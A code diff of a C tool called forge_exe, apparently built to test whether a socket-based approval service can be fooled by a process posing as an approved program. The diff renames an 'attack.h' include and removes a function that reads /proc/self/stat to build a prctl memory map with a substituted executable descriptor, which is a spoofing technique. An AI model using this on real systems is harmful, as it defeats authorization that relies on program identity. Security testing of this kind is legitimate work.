@@ -6,8 +6,7 @@
  *   forge_exe SOCKET REQUEST APPROVED no [COUNT]    nothing of the approved program is mapped
  *   forge_exe SOCKET REQUEST APPROVED map [COUNT]   the approved program is mapped as executable too
  */
-#include "attack.h"
-#include <linux/prctl.h>
+#include "forge.h"
 #include <sys/stat.h>
 
 enum { MOST = 32, GRANTED = 77 };
@@ -74,26 +73,6 @@ __attribute__((section("moving"), noinline, noreturn)) static void payload(struc
 }
 
 extern char __start_moving[], __stop_moving[];
-
-static void describe_memory(struct prctl_mm_map *map, int approved)
-{
-    char text[1024], *field;
-    unsigned long long numbers[60] = {0};
-    int fd = open("/proc/self/stat", O_RDONLY);
-    ssize_t n = read(fd, text, sizeof text - 1);
-    close(fd);
-    text[n > 0 ? n : 0] = 0;
-    field = strrchr(text, ')');
-    /* proc_pid_stat(5): the field after the name is the third. */
-    int i = 3;
-    for (char *one = strtok(field + 1, " "); one && i < 60; one = strtok(NULL, " "))
-        numbers[i++] = strtoull(one, NULL, 10);
-    *map = (struct prctl_mm_map){
-        .start_code = numbers[26], .end_code = numbers[27], .start_stack = numbers[28],
-        .start_data = numbers[45], .end_data = numbers[46], .start_brk = numbers[47], .brk = (unsigned long)sbrk(0),
-        .arg_start = numbers[48], .arg_end = numbers[49], .env_start = numbers[50], .env_end = numbers[51],
-        .exe_fd = (unsigned)approved};
-}
 
 static void find_own(struct plan *plan)
 {
